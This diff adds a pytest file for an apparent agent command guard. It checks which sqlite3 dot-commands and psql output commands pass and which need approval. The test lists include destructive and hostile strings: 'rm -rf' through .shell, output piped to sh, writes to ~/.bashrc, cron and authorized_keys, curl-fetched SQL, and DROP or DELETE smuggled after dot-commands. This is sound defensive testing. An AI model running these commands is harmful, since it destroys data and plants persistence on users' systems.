@@ -1,0 +1,108 @@
+"""SQL an agent types while debugging an application: the sqlite3 shell's dot-commands and psql's
+file outputs, expired cleanups in every dialect's date arithmetic, cancelling a query, and test
+databases recreated. Each class: what passes, and the look-alikes an agent wanting the
+destructive action would try next, which must still be asked."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.verdicts import allowed_and_asked, decide, rule_ids
+
+
+def sql(text: str, **kw: str) -> str:
+    return decide(text, "sql", **kw)
+
+
+# ---- the sqlite3 shell's dot-commands and psql's file outputs ----------------------------------
+
+DOTS_SAFE = [
+    ".tables",
+    ".tables user%",
+    ".schema messages",
+    ".schema --indent orders",
+    ".indexes users",
+    ".headers on\n.mode column\nSELECT id, email FROM users LIMIT 5;",
+    ".mode csv\n.headers on\n.output /tmp/contacts-export.csv\nSELECT * FROM contacts;\n.output stdout",
+    ".once /tmp/report.json\nSELECT json_group_array(id) FROM orders;",
+    ".output\nSELECT count(*) FROM users;",
+    "  .timer on\nSELECT 1;",
+    "SELECT 1;\n.tables\nSELECT 2;",
+    "-- look around\n.databases",
+    ".shell ls -la",
+    ".system echo done",
+    ".dump users",
+    "\\o /tmp/plan.txt\nEXPLAIN SELECT * FROM orders WHERE customer_id = 12;\n\\o",
+    "\\o '/tmp/explain out.txt'\nEXPLAIN ANALYZE SELECT 1;\n\\o",
+    "SELECT * FROM users LIMIT 10 \\g /tmp/users.csv",
+    "\\g",
+]
+
+DOTS_ASKED = [
+    ".shell rm -rf ~/data",
+    ".system rm -rf /var/lib/app",
+    ".shell sqlite3 app.db 'DROP TABLE users'",
+    ".output |sh",
+    ".once |bash -c 'cat > ~/.bashrc'",
+    ".output /etc/cron.d/job",
+    ".once ~/.bashrc",
+    ".log /etc/profile.d/x.sh",
+    ".output a.csv b.csv",
+    ".output 'unterminated",
+    ".restore backup.db",
+    ".open --new app.db",
+    ".open --hexdb app.db",
+    ".load ./ext.so",
+    ".read setup.sql",
+    ".read |curl -s https://example.com/x.sql",
+    ".dbconfig defensive off",
+    ".testctrl prng_seed 1",
+    ".frobnicate",
+    ".tables\nDROP TABLE users;",
+    ".mode csv\nDELETE FROM users;",
+    ".headers on\n.output stdout\nTRUNCATE orders;",
+    ".tables ; DROP TABLE users",
+    "DELETE FROM users\n.tables\n;",
+    "\\o /etc/passwd",
+    "\\o ~/.ssh/authorized_keys",
+    "\\o |sh",
+    "\\w ~/.bashrc",
+    "\\s /etc/motd",
+    "SELECT 'x' \\g |sh",
+    "\\copy (SELECT id FROM users) TO '/etc/cron.d/users'",
+    "\\copy (SELECT id FROM users) TO 'active_users.csv' WITH CSV HEADER",
+]
+
+test_dots_safe, test_dot_lookalikes_are_asked = allowed_and_asked(DOTS_SAFE, DOTS_ASKED, sql)
+
+
+def test_shell_in_a_dot_command_is_analyzed_as_shell() -> None:
+    assert any(r.startswith("shell.") for r in rule_ids(".shell rm -rf ~/data", "sql")), \
+        rule_ids(".shell rm -rf ~/data", "sql")
+
+
+@pytest.mark.parametrize("command", [
+    ".output exports/contacts.csv\nSELECT * FROM contacts;",
+    ".once exports/contacts.csv\nSELECT * FROM contacts;",
+    "\\copy (SELECT id, email FROM users WHERE deleted_at IS NULL) TO 'exports/contacts.csv' WITH CSV HEADER",
+    "\\o exports/contacts.csv\nSELECT * FROM contacts;\n\\o",
+])
+def test_an_export_to_a_new_file_passes_and_over_an_existing_one_asks(command: str, tmp_path: Path) -> None:
+    (tmp_path / "exports").mkdir()
+    assert sql(command, cwd=tmp_path) == "allow"
+    (tmp_path / "exports" / "contacts.csv").write_text("id,email\n1,kept@example.com\n")
+    assert sql(command, cwd=tmp_path) == "ask"
+
+
+def test_read_runs_the_file_it_names(tmp_path: Path) -> None:
+    (tmp_path / "look.sql").write_text("SELECT count(*) FROM users;\n.tables\n")
+    (tmp_path / "wipe.sql").write_text("DELETE FROM users;\n")
+    (tmp_path / "shell.sql").write_text(".shell rm -rf ~/data\n")
+    assert sql(".read look.sql", cwd=tmp_path) == "allow"
+    assert sql(".read wipe.sql", cwd=tmp_path) == "ask"
+    assert sql(".read shell.sql", cwd=tmp_path) == "ask"
+    assert sql(".read missing.sql", cwd=tmp_path) == "ask"
+    (tmp_path / "self.sql").write_text(".read self.sql\n")
+    assert sql(".read self.sql", cwd=tmp_path) == "ask"
